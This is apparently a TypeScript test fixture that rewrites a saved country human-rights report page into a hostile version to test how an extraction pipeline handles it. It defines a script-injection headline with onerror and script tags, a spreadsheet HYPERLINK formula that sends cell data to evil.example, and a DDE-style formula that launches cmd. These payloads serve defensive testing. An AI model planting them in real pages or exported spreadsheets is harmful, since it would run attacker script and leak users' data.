import { escapeHtml } from '../../shared/domain/diff-rendering.js';
import { loadCorpusPage, type CorpusCountry } from './corpus.js';

/**
 * A real report page turned hostile, as a page an attacker controls (or a defaced one) would be captured: its
 * headline is markup that runs script where a reader renders it as HTML, and one heading and one paragraph of the
 * body start the way spreadsheet formulas do. The text is written HTML-escaped into the page, as a browser would
 * show it, so extraction reads it back as the hostile text itself.
 */
export const HOSTILE_TITLE = '"><img src=x onerror=alert(1)> ]]> & <script>alert(2)</script>';
export const FORMULA_HEADING = '=HYPERLINK("https://evil.example/?leak="&A1,"Prison and Detention Center Conditions")';
export const FORMULA_SENTENCE = "@SUM(1+1)*cmd|' /C calc'!A0 torture was reported in the capital.";

export function hostilePageHtml(country: CorpusCountry = 'kazakhstan', year = 2023): string {
  let html = loadCorpusPage(country, year);
  const headline = /(<h1[^>]*report-header__headline[^>]*>)[\s\S]*?(<\/h1>)/;
  if (!headline.test(html)) throw new Error('the corpus page has no report headline');
  html = html.replace(headline, (_, open: string, close: string) => `${open}${escapeHtml(HOSTILE_TITLE)}${close}`);
  if (!html.includes('>Prison and Detention Center Conditions<')) throw new Error('the corpus page has no prison conditions heading');
  html = html.replaceAll('>Prison and Detention Center Conditions<', `>${escapeHtml(FORMULA_HEADING)}<`);
  // The first body paragraph after that heading starts with a formula.
  const heading = html.search(/<h4[^>]*>=HYPERLINK/);
  const paragraph = heading === -1 ? -1 : html.indexOf('<p>', heading);
  if (paragraph === -1) throw new Error('no paragraph after the heading');
  return `${html.slice(0, paragraph)}<p>${escapeHtml(FORMULA_SENTENCE)}</p>${html.slice(paragraph)}`;
}
